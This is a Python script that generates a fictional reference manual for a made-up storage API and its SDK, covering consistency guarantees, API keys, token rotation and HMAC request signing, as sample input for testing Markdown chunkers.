#!/usr/bin/env python3
"""Generate ``sample_docs/api_reference.md``, the large bundled sample document.

The file is generated: do not edit it by hand. Edit this script and regenerate it with

    python scripts/make_api_reference.py > sample_docs/api_reference.md

or, equivalently, ``python scripts/make_api_reference.py -o sample_docs/api_reference.md``.

The output is the reference manual of a fictional service, the "Larkspur Storage API" and its
Python SDK. It is meant to look like documentation written by people and to carry the structure
Markdown chunkers find hard: YAML front matter and a preamble before the first heading, a deep
heading tree (H1 to H6, setext headings, a heading with no body, headings holding code, emphasis
and links), many GFM tables (one of them over 80 rows, cells with escaped pipes), fences of every
kind (backticks, tildes, a four-backtick fence holding a three-backtick line), very long code
blocks, long sections of prose with no subheading, nested lists with code inside list items,
blockquotes, an HTML ``<details>`` block, link reference definitions, non-ASCII text, and HTML
that an app must show as text, never render.

The script uses the standard library only and no unseeded randomness: every run writes the same
bytes (UTF-8, LF line endings), so the file can be checked with ``cmp`` against a fresh run.
"""

# ruff: noqa: E501  (prose and example data make long lines)

from __future__ import annotations

import argparse
import hashlib
import json
import random
import sys
import textwrap
from collections.abc import Mapping
from dataclasses import dataclass, field

BASE = "https://api.larkspur.example/v2"

# One seeded generator, used only to pick among hand-written phrasings; its seed never changes.
RNG = random.Random(20250304)


def md(s: str) -> str:
    """A Markdown block written in the source: dedented, outer blank lines dropped."""
    return textwrap.dedent(s).strip("\n")


def prose(s: str) -> str:
    """Paragraphs written wrapped in the source, emitted one line per paragraph."""
    paras = [p for p in textwrap.dedent(s).strip("\n").split("\n\n")]
    return "\n\n".join(" ".join(line.strip() for line in p.splitlines()) for p in paras)


def rid(prefix: str, seed: str, n: int = 16) -> str:
    """A stable, random-looking identifier derived from a seed string."""
    return prefix + hashlib.sha256(seed.encode()).hexdigest()[:n]


def pick(options: list[str]) -> str:
    return RNG.choice(options)


def js(obj: object) -> str:
    return json.dumps(obj, indent=2, ensure_ascii=False)


# --------------------------------------------------------------------------------------------
# Front matter, preamble, title
# --------------------------------------------------------------------------------------------

FRONT_MATTER = md("""
    ---
    title: Larkspur Storage API Reference
    version: 2.14.0
    api_version: "2025-03-01"
    tags:
      - storage
      - http-api
      - python-sdk
      - reference
    owner: developer-experience
    last_reviewed: 2025-03-04
    ---
""")

PREAMBLE = [
    prose("""
        This is the reference manual for the Larkspur Storage API, version 2, and for `larkspur`,
        the official Python SDK. It describes every public endpoint, the objects they return, the
        errors they raise and the limits they enforce. It is written for engineers who integrate
        with Larkspur directly; if you only want to move files around, the
        [command-line client](#the-command-line-client) will get you there faster.
    """),
    md("""
        [![API v2.14](https://img.shields.io/badge/API-v2.14-2b6cb0)](#changelog) [![Python SDK 3.8.1](https://img.shields.io/badge/python--sdk-3.8.1-3776ab)](#sdk-guide) [![Status](https://img.shields.io/badge/status-operational-2f855a)][status]
    """),
]

TITLE = md("""
    # Larkspur Storage API Reference

    Larkspur stores files, called *objects*, in named containers called *buckets*, and gives you
    fine-grained control over who can read them, how long they live, and where in the world they
    are kept. Everything the web console can do, the API can do too; the console is itself an API
    client with no private endpoints.

    This manual is organised in parts:

    1. [Overview](#overview): base URLs, regions, consistency, and conventions shared by every endpoint.
    2. [Authentication](#authentication): API keys, access tokens, request signing and scopes.
    3. One part per resource, from [Projects](#projects) to [Billing](#billing).
    4. [Errors](#errors) and [Rate limits](#rate-limits), including the full error code table.
    5. The [SDK guide](#sdk-guide), the [Changelog](#changelog) and a [Glossary](#glossary).
    6. The [Terms of service](#terms-of-service) that govern use of the API.

    [status]: https://status.larkspur.example "Larkspur status page"
    [rfc9110]: https://www.rfc-editor.org/rfc/rfc9110
    [rfc3339]: https://www.rfc-editor.org/rfc/rfc3339
    [sdk-repo]: https://github.com/larkspur-storage/larkspur-python
    [semver]: https://semver.org/spec/v2.0.0.html
""")


# --------------------------------------------------------------------------------------------
# Overview
# --------------------------------------------------------------------------------------------

OVERVIEW = [
    md("""
        ## Overview

        This part describes the behaviour every endpoint shares. Read it once before you start;
        the per-resource parts assume you know it and do not repeat it.

        ### What Larkspur is

        Larkspur is an object store with an HTTP interface. You create a *project* for each
        application or environment, create *buckets* inside the project, and put *objects* into
        the buckets. An object is an opaque sequence of bytes of up to 5 TiB, together with a small
        amount of metadata: its content type, a checksum, the time it was written, and up to 2 KiB
        of your own key–value pairs. Objects are immutable. Writing to an existing key replaces the
        object as a whole; there is no way to append to an object or change a byte range in place.
        If you need those semantics, store the pieces as separate objects and keep an index.

        Around that core sit the resources that make a store usable by a team: users and their
        roles, API keys and short-lived access tokens, webhooks that tell you when something
        changes, audit logs that tell you who changed it, lifecycle rules that delete or archive
        objects on a schedule, replication rules that copy them to another region, quotas, and
        billing. Each has a part of its own below.

        The API speaks JSON over HTTPS. Request bodies are JSON unless an endpoint says otherwise
        (object uploads take the raw bytes), responses are JSON except for object downloads, and
        errors always are. The API is versioned by date and by path; see [Versioning](#versioning).

        ### Base URLs and regions

        Every project lives in one *home region*, chosen when the project is created and fixed
        afterwards. Control-plane calls (projects, users, keys, billing) can go to any region and
        are forwarded; data-plane calls (objects and uploads) should go to the bucket's region,
        which saves a redirect and, more importantly, a cross-region transfer charge.

        | Region | Location | Data-plane endpoint | Notes |
        |:-------|:---------|:--------------------|:------|
        | `eu-central-1` | Frankfurt | `https://eu-central-1.larkspur.example` | Default for new accounts in the EU |
        | `eu-west-2` | Dublin | `https://eu-west-2.larkspur.example` | |
        | `us-east-2` | Columbus, Ohio | `https://us-east-2.larkspur.example` | Default for everyone else |
        | `us-west-1` | Portland, Oregon | `https://us-west-1.larkspur.example` | |
        | `ap-northeast-1` | 東京 (Tokyo) | `https://ap-northeast-1.larkspur.example` | Archive tier not available |
        | `sa-east-1` | São Paulo | `https://sa-east-1.larkspur.example` | Opened in 2.11; see the [changelog](#changelog) |

        The control plane is always reachable at `https://api.larkspur.example/v2`. If you send a
        data-plane request there, it answers `307 Temporary Redirect` with the regional URL in
        `Location`. Most HTTP clients follow the redirect on `GET` but not on `PUT`; the SDK
        resolves the region once per bucket and caches it, so you never see the redirect.

        ### Consistency and durability
    """),
    prose("""
        Larkspur gives you strong read-after-write consistency for every operation on a single key,
        in every region, without exception, and this section explains exactly what that promise
        covers, what it does not, and how durability is achieved underneath it. We go into more
        detail than you may need because the difference between "strongly consistent" and "nearly
        always consistent" only matters on the day something goes wrong, and on that day you will
        want to know which of your assumptions were safe.

        Start with the promise itself. When a `PUT` of an object returns a success status, every
        request that starts after that moment, from any client, in any region, will see the new
        object or something newer. A `GET` will return the new bytes, a `HEAD` will return the new
        metadata and checksum, and a list of the bucket will include the key with its new size.
        The same holds for `DELETE`: once it has returned, no later `GET` will return the deleted
        object, and no later list will include it. There is no window in which a stale replica can
        answer, because reads of object metadata always go to the replica group that owns the key,
        and a write is only acknowledged once a majority of that group has recorded it. Object
        bytes themselves are content-addressed, so a read that has found the right metadata cannot
        be served the wrong bytes; at worst it is served them slowly, from a more distant copy.

        The promise is about requests that start after a write has returned. Two requests that
        overlap in time have no defined order. If one client writes `reports/q3.pdf` while another
        reads it, the reader gets either the old object or the new one, never a mixture of the
        two, but which one it gets depends on which request reached the replica group first. If
        two clients write the same key at the same time, the one whose write is recorded last
        wins, and the other's object is gone without any error being returned to its writer. When
        that matters to you, and in most applications it eventually does, use conditional
        requests: send `If-Match` with the entity tag you last read, and the write will fail with
        `412 precondition_failed` instead of silently replacing someone else's work. Send
        `If-None-Match: *` to create a key only if it does not exist yet. These conditions are
        evaluated by the same replica group that orders the writes, so they are exact: there is no
        race between the check and the write.

        Listing is where people most often expect more than any object store can give. A list
        request reads a snapshot of the bucket's index taken when the request starts, and walks it
        in key order. A page of results is consistent with itself, but a listing that spans many
        pages is not a single snapshot: a key written after you fetched page one may or may not
        appear on page four, depending on where it sorts. Each page carries a `next_cursor` that
        encodes the last key returned, not a position in a frozen copy of the index, so you will
        never see the same key twice and never skip a key that existed for the whole duration of
        the listing. Keys created or deleted while you list are the only ones whose presence is
        undefined. If you need an exact inventory at a point in time, ask for an inventory export
        instead, which is computed from a true snapshot and delivered as objects in a bucket of
        your choosing.

        Bucket-level settings are a slightly different matter. Changes to a bucket's access
        policy, its lifecycle rules, its replication rules and its CORS configuration are stored
        in the control plane and pushed to the data plane of the bucket's region. The push usually
        completes within a second, and the API call that made the change does not return until
        the bucket's own region has acknowledged it, but edge caches for public buckets may keep
        serving responses under the old policy for up to 60 seconds. In practice this means that
        making a public bucket private is not instantaneous for anonymous readers, and you should
        rotate any signed URLs you are worried about rather than rely on the policy change alone.
        Making a private bucket public, on the other hand, takes effect immediately, because
        cached denials are never stored.

        Replication to a second region is asynchronous by design, and the guarantees above apply
        to each region separately. An object written in `eu-central-1` is strongly consistent
        there the moment its `PUT` returns; in the replica region it appears some time later,
        usually within a few seconds and, for objects under 100 MiB, within fifteen minutes in 99.9
        percent of cases over any calendar month. Replication preserves the order of writes to a
        single key, so a replica never goes back in time, but it does not preserve order across
        keys. If your application writes a data file and then a manifest that points to it, a
        reader in the replica region may see the manifest before the data. Write the data under a
        new key each time, have the manifest name it, and have readers retry a missing key for a
        short while; that pattern is safe under any replication delay.

        Durability is a separate promise from consistency, and a much larger number. Each object
        is split into data and parity fragments using an erasure code, and the fragments are
        spread across at least three availability zones in the bucket's region, which are
        physically separate buildings with independent power, cooling and network uplinks. Any
        combination of failures that loses fewer than a third of an object's fragments loses no
        data, and a background process repairs lost fragments well before a second failure
        becomes likely. The design target is eleven nines of annual durability per object, which
        is a statement about the hardware and software architecture, not a contractual guarantee;
        the contractual terms are in [clause 5](#5-liability) of the terms of service. Objects in
        the archive storage class are stored with a different code that tolerates the loss of a
        whole zone plus two further disks, at the cost of slower reads.

        Checksums guard the path between your application and the fragments. Every object has a
        CRC32C checksum computed by the server as the bytes arrive, and you may send one yourself
        in the `Larkspur-Checksum-CRC32C` header, or a SHA-256 in `Larkspur-Checksum-SHA256`. If
        you send one and it does not match what the server computed, the write fails with `400
        checksum_mismatch` and nothing is stored. We strongly recommend sending a checksum on
        every upload: it costs a pass over the data you are sending anyway, and it is the only way
        to detect corruption that happens in your own process, in a proxy, or in a network device
        that rewrites payloads, which is rarer than it should be but not as rare as you might
        hope. Downloads return the stored checksum in a response header, and the SDK verifies it
        by default as the body streams in.

        Timestamps deserve a sentence of their own, because people build ordering on them. The
        `created_at` of an object comes from the clock of the replica group that accepted the
        write, corrected so that it never goes backwards for a given key: a newer version of a
        key always has a later timestamp than the version it replaced, even if the clocks of two
        machines disagreed at the moment of the write. Across different keys, timestamps are
        only as accurate as the clocks in the region, which are kept within a few milliseconds of
        each other but not closer. Two objects written by different clients a millisecond apart
        may therefore carry timestamps in the opposite order, and sorting a listing by
        `created_at` is not a reliable way to reconstruct the order in which your application
        wrote things. If you need that order, put a sequence number in the key or in the
        metadata yourself.

        Finally, a word about the things this section does not cover. Deleting a bucket, revoking
        an API key and removing a user are control-plane operations that take effect within a few
        seconds worldwide, but they are not part of the per-key ordering described above, so a
        request that was already in flight when you revoked a key may still complete. Audit log
        events are written after the operation they describe and may lag it by a few seconds.
        Usage figures for quotas and billing are aggregated every five minutes and are eventually
        consistent by nature. None of these delays can cause an object to be lost or a stale
        object to be served, which is what the promises in this section are about, and none of
        them, in our experience, is a good foundation on which to build application logic.
    """),
    md("""
        ### Request and response conventions

        #### Identifiers

        Resources that you name, such as buckets and object keys, are addressed by name. Resources
        that Larkspur names are addressed by an opaque identifier with a type prefix: `prj_` for
        projects, `key_` for API keys, `usr_` for users, `whk_` for webhooks, `evt_` for audit log
        events, `rep_` for replication rules, `upl_` for multipart uploads and `inv_` for invoices.
        Treat identifiers as opaque strings of up to 64 characters. Do not parse them, and do not
        assume they sort in creation order: some do, by accident, and the accident will end.

        #### Timestamps

        Timestamps are strings in [RFC 3339][rfc3339] format, always in UTC with a `Z` suffix and
        millisecond precision, for example `2025-03-04T09:15:22.481Z`. Durations are integers in
        seconds, with the unit in the field name (`ttl_seconds`, `retention_days`).

        #### Pagination

        List endpoints return at most `limit` items (default 100, maximum 1000 unless the endpoint
        says otherwise) in a `data` array, together with `has_more` and `next_cursor`. To fetch the
        next page, repeat the request with `cursor` set to `next_cursor` and every other parameter
        unchanged. Changing a filter while reusing a cursor is an error, `400 cursor_mismatch`,
        because the cursor encodes the filter it was issued for. Cursors expire after 24 hours.

        ```json
        {
          "data": ["…"],
          "has_more": true,
          "next_cursor": "c2Vzc2lvbjpidWNrZXRzOm1lZGlhLWV1OjIwMjUtMDMtMDQ"
        }
        ```

        #### Partial responses with `fields`

        Most `GET` endpoints accept a `fields` parameter, a comma-separated list of the top-level
        fields you want. The response then contains only those fields plus `id` (or `name`).
        Asking for fewer fields does not make the request cheaper in terms of rate limits, but it
        can make large list responses noticeably smaller.

        ### Versioning

        The path prefix `/v2` names the major version. Within it, behaviour is pinned by date with
        the `Larkspur-Version` header; the current version is `2025-03-01`. Requests without the
        header use the version your project was pinned to when it was created, which you can see
        and change on the project itself. We add fields, endpoints and optional parameters without
        a new date; we change the meaning of an existing field, remove one, or make a parameter
        required only with a new date, and we announce the date at least 90 days ahead in the
        [changelog](#changelog).

        ### Common headers

        | Header | Direction | Description |
        |:-------|:---------:|:------------|
        | `Authorization` | request | `Bearer <token>` or a signature; see [Authentication](#authentication). |
        | `Larkspur-Version` | request | API version date, for example `2025-03-01`. |
        | `X-Larkspur-Project` | request | Project ID for calls that are not already scoped to one by the path. |
        | `Idempotency-Key` | request | Up to 255 characters; makes a `POST` safe to retry. See [Idempotency](#idempotency). |
        | `If-Match` / `If-None-Match` | request | Conditional writes and reads on entity tags. |
        | `Larkspur-Request-Id` | response | Unique ID of the request. Quote it when you contact support. |
        | `RateLimit-Limit`, `RateLimit-Remaining`, `RateLimit-Reset` | response | See [Rate limits](#rate-limits). |
        | `ETag` | response | Entity tag of the object or configuration returned. |
        | `Sunset` | response | Present on deprecated endpoints, with the date they stop working. |

        #### Idempotency

        `GET`, `HEAD`, `PUT` and `DELETE` are idempotent by nature and safe to retry. `POST` is not,
        unless you send an `Idempotency-Key`. The server stores the key together with the status
        and body of the first response for 24 hours; a retry with the same key and the same body
        gets the stored response back, with `Idempotent-Replayed: true`, and does not repeat the
        operation. A retry with the same key and a *different* body fails with
        `422 idempotency_key_reused`. Generate a fresh UUID per logical operation, not per attempt.
    """),
]


# --------------------------------------------------------------------------------------------
# Authentication
# --------------------------------------------------------------------------------------------

AUTHENTICATION = [
    md("""
        ## Authentication

        Every request must be authenticated, with three exceptions: anonymous reads of objects in
        a public bucket, requests that carry a valid signed URL, and `GET /v2/health`. Larkspur
        accepts three kinds of credentials, and they are not interchangeable; pick the one that
        fits how long the credential has to live and who holds it.

        ### Choosing a credential

        | Credential | Lifetime | Who holds it | Typical use |
        |:-----------|:---------|:-------------|:------------|
        | API key | Until revoked | A server or CI job you control | Back-end services, scripts, infrastructure tooling |
        | Access token | 5 minutes to 12 hours | A process that obtained it from a key or from SSO | Browser apps, short jobs, delegated access |
        | Signed URL | 1 second to 7 days | Anyone who has the URL | Letting a third party download or upload one object |

        API keys never leave your infrastructure. If a browser, a mobile app or a partner needs
        access, mint an access token or a signed URL for them from your back end.

        > **Warning**
        > An API key with the `admin` scope can delete every bucket in the project, including its
        > contents, and can create new keys with any scope. Keep admin keys out of application
        > servers entirely; use them from a deployment pipeline or not at all.

        ### API keys

        API keys belong to a project and carry a fixed set of [scopes](#scopes). Create them in
        the console or with [`POST /v2/keys`](#create-an-api-key). Send a key as a bearer token:

        ```bash
        curl https://api.larkspur.example/v2/buckets \\
          -H "Authorization: Bearer $LARKSPUR_TOKEN"
        ```

        #### Key format

        A key looks like `lk_live_7Qm2xV9pK4rT8wZ3nB6cD1fG5hJ0sL2a`: the prefix `lk_`, the
        environment (`live` or `test`), and 32 characters of base62. The first 12 characters are
        the *key prefix*, which is not secret and is shown in the console and in audit logs so you
        can tell keys apart. The full key is shown once, when it is created, and never again;
        Larkspur stores only a salted hash of it.

        Keys in the `test` environment work only against buckets whose names start with `test-`,
        and their requests are never billed. They are meant for CI and for the SDK's own test
        suite, not for staging environments that hold real data.

        #### Rotating a key without downtime

        Rotate keys on a schedule, and immediately if a key may have leaked. The procedure below
        keeps every service working throughout:

        1. Create the new key with the same scopes as the old one, and give it a name that says
           when it was made:

           ```bash
           larkspur keys create --name "billing-worker 2025-03" \\
             --scopes objects:read,objects:write --project prj_4f1c9a0e7b2d
           ```

        2. Deploy the new key next to the old one.
           - For services that read their key from the environment:
             - Set `LARKSPUR_TOKEN_NEXT` to the new key and leave `LARKSPUR_TOKEN` alone.
             - The SDK decides which key to use:
               - SDK 3.6 and later try `LARKSPUR_TOKEN_NEXT` first and fall back to
                 `LARKSPUR_TOKEN` on `401`, logging a warning each time they fall back.
               - Older SDKs read only `LARKSPUR_TOKEN`; wrap the client until you upgrade:

                 ```python
                 import os
                 from larkspur import Client, Unauthorized

                 def make_client() -> Client:
                     for var in ("LARKSPUR_TOKEN_NEXT", "LARKSPUR_TOKEN"):
                         token = os.environ.get(var)
                         if not token:
                             continue
                         client = Client(token=token)
                         try:
                             client.projects.current()
                             return client
                         except Unauthorized:
                             continue
                     raise RuntimeError("no working Larkspur key in the environment")
                 ```

             - Restart the service and check its logs for fallback warnings.
           - For CI pipelines, add the new key as a second secret and switch the jobs over one
             at a time.
           - For keys pasted into third-party tools, there is no shortcut: replace them by hand,
             and keep a list, because you will have to do it again.
        3. Watch the old key's `last_used_at`. When it has not changed for a full day, nothing
           is using it any more.
        4. Revoke the old key with `DELETE /v2/keys/{key_id}`, then rename
           `LARKSPUR_TOKEN_NEXT` to `LARKSPUR_TOKEN` at your next deploy.

        > **Note**
        > Revocation takes effect within five seconds in every region. Requests that were already
        > being processed when you revoked the key are allowed to finish.

        ### Access tokens

        An access token is a short-lived bearer credential, minted from an API key (the OAuth 2.0
        client-credentials flow) or from a user's single sign-on session. Tokens carry a subset of
        the scopes of whatever minted them, can be restricted to a list of buckets or key
        prefixes, and expire on their own, which makes them the right thing to hand to code you do
        not fully control. They are described in full under [Tokens](#tokens).

        Tokens look like `lkt_` followed by a JWT. You may decode the payload to read `exp` and
        `scope`, but do not verify the signature yourself or rely on any other claim: the signing
        keys rotate without notice and the claims are not part of the API contract.

        ### How request signing works
    """),
    prose("""
        Bearer tokens are simple, and for most integrations they are enough, but they have a
        property that some security teams are not willing to accept: anyone who sees a request in
        transit, in a log file or in a crash dump sees a credential that will work for every other
        request until it is revoked or expires. Request signing removes that property. Instead of
        sending the key, the client uses it to compute a signature over the parts of the request
        that matter, and sends the signature. The server, which knows the key, computes the same
        signature and compares. A captured signature is useful only for replaying the exact
        request it was computed for, within a short window, and never for anything else. This
        section explains the design; the next gives the algorithm step by step, and the SDK
        implements it for you if you set `signing=True` on the client.

        The signature is an HMAC-SHA256 computed with a *signing key* that is derived from your
        API key, not with the API key itself. The derivation mixes in the date, the region and the
        string `larkspur_request`, so a signing key is valid for one day in one region. This
        matters more than it might seem. It means that your client can derive the signing key
        once a day and keep only that in memory, that a signing key leaked from one region's
        traffic cannot be used against another region, and that a leaked signing key stops
        working at midnight UTC without anyone having to do anything. The API key itself never
        needs to be present in the process that sends the requests, which is a real benefit for
        fleets of short-lived workers: a coordinator can hand them a signing key each morning and
        keep the API key somewhere much better protected.

        What gets signed is a *canonical request*, a normalised text form of the HTTP request that
        both sides can produce identically from the bytes on the wire. It contains the method,
        the path, the query string with its parameters sorted, a chosen list of headers with
        their names lower-cased and their values trimmed, the list of those header names, and the
        SHA-256 of the body. Normalisation exists because HTTP allows many spellings of the same
        request. Header names are case-insensitive, query parameters can appear in any order,
        whitespace inside header values can be folded differently by proxies, and a path can be
        percent-encoded in more than one way. If the client signed the request exactly as it
        wrote it and a proxy then rewrote a header's capitalisation, the signatures would not
        match and the request would fail for reasons that have nothing to do with security. The
        canonical form is designed so that every rewrite an HTTP intermediary is allowed to make
        leaves it unchanged, and every change an attacker might want to make does not.

        The list of signed headers is chosen by the client, with two constraints enforced by the
        server: `host` and `larkspur-date` must always be included, and so must every header
        whose name starts with `larkspur-`, because those headers change what the request does.
        Including `content-type` is strongly recommended for uploads, since otherwise an attacker
        who replays a captured upload could change the type under which the object is served.
        Headers that proxies commonly add or rewrite, such as `via`, `x-forwarded-for` and
        `connection`, should not be signed. The SDK signs `host`, `content-type`, `content-md5`
        when present, `range` when present, and every `larkspur-` header, which is a reasonable
        default that you should only change with a reason.

        The body is covered by its hash rather than by the bytes themselves, which lets a client
        sign a request before it has read a large body into memory, provided it can hash the body
        first. For streaming uploads where even that is impractical, you may put the literal
        string `UNSIGNED-PAYLOAD` in place of the hash. The request is then protected against
        every change except a change to the body, which is acceptable when the body is also
        covered by a `Larkspur-Checksum-SHA256` header, because that header is itself signed and
        the server rejects a body that does not match it. The combination gives you the same
        integrity guarantee as a signed body hash, with the checksum computed incrementally as
        the bytes are sent, and it is what the SDK does for uploads larger than 16 MiB.

        Replay protection comes from the `Larkspur-Date` header, which is signed and must be
        within five minutes of the server's clock. A captured request can therefore be replayed
        for at most five minutes, and only verbatim. For idempotent requests that is harmless by
        definition. For `POST` requests it is the reason the SDK always sends an
        `Idempotency-Key` when signing is enabled: a replay within the window is then answered
        from the idempotency store rather than executed a second time. If your clocks drift, and
        on virtual machines that have been suspended they do, requests fail with
        `401 request_time_skewed`, and the error body includes the server's time so that a client
        can correct its offset and retry. The SDK does this automatically, once, and logs it.

        A few design choices are worth naming because people ask about them. We do not sign the
        response: TLS already authenticates the server, and signing responses would double the
        cost of every download for no gain that TLS does not already give you. We do not support
        signature algorithms other than HMAC-SHA256, because negotiating algorithms is a common
        source of downgrade attacks and we have no reason to think SHA-256 is about to become a
        problem. We do not accept signatures in query parameters except in signed URLs, which are
        a separate mechanism with their own, shorter, rules. And we deliberately made the
        canonical request format close to, but not identical with, the formats used by other
        object stores. Being identical would have invited people to reuse a signing library built
        for another service, which works until the day one of the small differences, such as the
        treatment of a trailing slash or a repeated query parameter, produces a mismatch that is
        very hard to debug. A naïve port of another signer is the single most common cause of
        `403 signature_mismatch` that support sees, ahead even of clock skew.

        Signing keys and rotation fit together without any extra work on your part. Because a
        signing key is derived from the API key, rotating the API key changes every signing key
        derived from it, and revoking the API key invalidates them all within the usual five
        seconds, exactly as it would for bearer requests. There is no separate list of signing
        keys to manage and nothing to revoke twice. What does need care is caching: a client that
        derives a signing key at 23:59 UTC and uses it at 00:01 will have its requests refused,
        because the date in the credential scope no longer matches the date in the
        `Larkspur-Date` header. The server accepts the previous day's scope for fifteen minutes
        after midnight to absorb small clock differences, but a long-running process should
        derive its key from the date of each request, not from the date at which it started,
        which is what the SDK does. Signed URLs use a simpler scheme, described with the
        endpoint that creates them, because they must be verifiable from nothing but the URL
        itself and cannot carry headers.

        When a signature does not match, the error body contains the canonical request and the
        string to sign that the server computed, with the signature itself omitted. Comparing
        those with what your client computed is almost always enough to find the problem: look
        first at the path encoding, then at the order of query parameters, then at header values
        with internal whitespace, and finally at the body hash. The debugging output never
        includes anything derived from your key, so it is safe to paste into a support ticket.
    """),
    md("""
        ### Signing a request step by step

        The steps below are normative. The SDK implements them in `larkspur.auth.sign_request`;
        use it as a reference if your own implementation disagrees with the server.

        #### Canonical request

        The canonical request is six lines joined by `\\n`, with no trailing newline:

        ~~~text
        PUT
        /v2/buckets/media-eu/objects/reports%2Fq3.pdf
        version=2
        content-type:application/pdf
        host:eu-central-1.larkspur.example
        larkspur-date:20250304T091522Z

        content-type;host;larkspur-date
        9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
        ~~~

        ##### Canonical path

        Percent-encode each path segment with the unreserved set of RFC 3986 (`A–Z a–z 0–9 - . _ ~`)
        and nothing else, then join the segments with `/`. A `/` inside an object key is part of a
        segment and is therefore encoded as `%2F`. Do not collapse repeated slashes and do not
        remove dot segments: `a//b` and `a/./b` are distinct keys.

        ##### Canonical headers

        One line per signed header, in lexical order of lower-cased name: the name, a colon, and
        the value with leading and trailing whitespace removed and each run of internal
        whitespace replaced by a single space. A header that appears several times is signed as
        one line whose value is the values joined by `,` in the order they were sent.

        ###### Header folding edge cases

        Obsolete line folding (a header value continued on the next line after whitespace) is
        rejected by the server before signature checking, with `400 malformed_header`. Empty
        header values are signed as the name followed by a colon and nothing else. Quoted strings
        are not special: whitespace inside quotes is collapsed like any other whitespace, which
        is a deliberate simplification and occasionally surprises people who sign
        `content-disposition`.

        #### String to sign and signature

        ```python
        import hashlib
        import hmac

        def signing_key(api_key: str, date: str, region: str) -> bytes:
            k_date = hmac.new(("LARKSPUR1" + api_key).encode(), date.encode(), hashlib.sha256).digest()
            k_region = hmac.new(k_date, region.encode(), hashlib.sha256).digest()
            return hmac.new(k_region, b"larkspur_request", hashlib.sha256).digest()

        def string_to_sign(timestamp: str, scope: str, canonical_request: str) -> str:
            digest = hashlib.sha256(canonical_request.encode()).hexdigest()
            return "\\n".join(["LARKSPUR1-HMAC-SHA256", timestamp, scope, digest])
        ```

        The scope is `<date>/<region>/larkspur_request`. Send the result as:

        ```http
        Authorization: LARKSPUR1-HMAC-SHA256 Credential=lk_live_7Qm2/20250304/eu-central-1/larkspur_request, SignedHeaders=content-type;host;larkspur-date, Signature=5d3c1a…
        ```

        ### Scopes

        | Scope | Grants |
        |:------|:-------|
        | `objects:read` | `GET` and `HEAD` on objects; listing buckets and objects |
        | `objects:write` | Uploading, copying and deleting objects; multipart uploads |
        | `buckets:manage` | Creating, updating and deleting buckets; lifecycle and replication rules |
        | `webhooks:manage` | Creating and changing webhooks, reading deliveries |
        | `audit:read` | Reading and exporting audit log events |
        | `users:manage` | Inviting and removing users, changing roles |
        | `keys:manage` | Creating, rotating and revoking API keys (not keys with more scopes than its own) |
        | `billing:read` | Reading invoices and usage |
        | `admin` | Everything above, plus deleting the project |

        Scopes are checked before the resource is looked up, so a request for a bucket that does
        not exist, made with a key that could not read it anyway, returns `403 insufficient_scope`
        rather than `404 bucket_not_found`. This avoids leaking which buckets exist.

        ### Delegating access with [signed URLs](#create-a-signed-url)

        A signed URL grants one operation (`GET`, `HEAD` or `PUT`) on one object, to whoever holds
        the URL, until it expires. It is created locally by the SDK from an API key, or by the
        server with `POST /v2/buckets/{bucket}/objects/{key}/signed-urls` when the caller holds
        only an access token. The full rules are under [Objects](#objects).
    """),
]


# --------------------------------------------------------------------------------------------
# Resources: the renderer
# --------------------------------------------------------------------------------------------

CONTROL = "https://api.larkspur.example"
DATA = "https://eu-central-1.larkspur.example"

# Path parameters: type, description, and the value used in examples.
PATH_PARAMS = {
    "project_id": ("string", "ID of the project, for example `prj_4f1c9a0e7b2d`.", "prj_4f1c9a0e7b2d"),
    "bucket": ("string", "Name of the bucket.", "media-eu"),
    "key": (
        "string",
        "Object key, percent-encoded. A `/` inside the key is sent as `%2F`.",
        "reports%2F2025%2Fq3.pdf",
    ),
    "upload_id": ("string", "ID of the multipart upload, as returned when it was started.", "upl_8d1e62b0c4a7f935"),
    "part_number": ("integer", "Part number, 1 to 10,000.", "3"),
    "key_id": ("string", "ID of the API key (not the key itself).", "key_2b7e9c41d0a6"),
    "user_id": ("string", "ID of the user.", "usr_71c3e8a2f5b0"),
    "webhook_id": ("string", "ID of the webhook.", "whk_5a0d3f7c9e12"),
    "delivery_id": ("string", "ID of the delivery.", "dlv_c19b7e04a3f8"),
    "event_id": ("string", "ID of the audit log event.", "evt_3e8f1a6c0b94d2e7"),
    "export_id": ("string", "ID of the export.", "exp_09d4c7b1e2f6"),
    "rule_id": ("string", "ID of the replication rule.", "rep_6f2a9d0c3b71"),
    "quota_name": ("string", "Name of the quota, for example `buckets_per_project`.", "bytes_stored"),
    "invoice_id": ("string", "ID of the invoice.", "inv_2025_02_4f1c9a"),
}

PROJECT_HEADER = (
    "X-Larkspur-Project",
    "header",
    "string",
    "no",
    "Project to act in. Needed only when the credential belongs to a user who is a member of "
    "more than one project; API keys always act in their own project.",
)
IDEMPOTENCY_HEADER = (
    "Idempotency-Key",
    "header",
    "string",
    "no",
    "Makes the request safe to retry for 24 hours. See [Idempotency](#idempotency).",
)


def p_limit(plural: str, default: int = 100, maximum: int = 1000) -> tuple[str, str, str, str, str]:
    return (
        "limit",
        "query",
        "integer",
        "no",
        f"Maximum number of {plural} to return, 1 to {maximum:,}. Default {default:,}.",
    )


def p_cursor() -> tuple[str, str, str, str, str]:
    return ("cursor", "query", "string", "no", "`next_cursor` from the previous page. See [Pagination](#pagination).")


def p_fields() -> tuple[str, str, str, str, str]:
    return (
        "fields",
        "query",
        "string",
        "no",
        "Comma-separated top-level fields to return. See [Partial responses](#partial-responses-with-fields).",
    )


@dataclass
class Endpoint:
    """One endpoint: what the reader sees under its H3."""

    title: str
    method: str
    path: str
    summary: str
    scope: str = ""
    params: list[tuple[str, str, str, str, str]] = field(default_factory=list)  # name, in, type, required, text
    query: dict[str, object] = field(default_factory=dict)  # example query string
    body: object = None  # example JSON body
    status: str = "200 OK"
    response: object = "object"  # "object", "list", "none", a Markdown string, or a JSON value
    response_note: str = ""
    errors: list[tuple[str, str, str]] = field(default_factory=list)  # status, code, when
    sdk: tuple[str, dict[str, object]] | None = None  # call, keyword arguments
    py_after: str = ""
    curl: str = ""  # overrides the generated curl example
    python: str = ""  # overrides the generated Python example
    extra: str = ""  # Markdown after the examples
    layout: int | None = None  # 0, 1 or 2; see render_endpoint
    headers_only: bool = False


@dataclass
class Resource:
    """One H2 part: a resource, its object, and its endpoints."""

    title: str
    singular: str
    plural: str
    intro: str
    endpoints: list[Endpoint]
    host: str = CONTROL
    object_heading: str = ""
    object_phrase: str = ""
    fields: list[tuple[str, str, str]] = field(default_factory=list)
    example: Mapping[str, object] = field(default_factory=dict)
    variant: Mapping[str, object] = field(default_factory=dict)
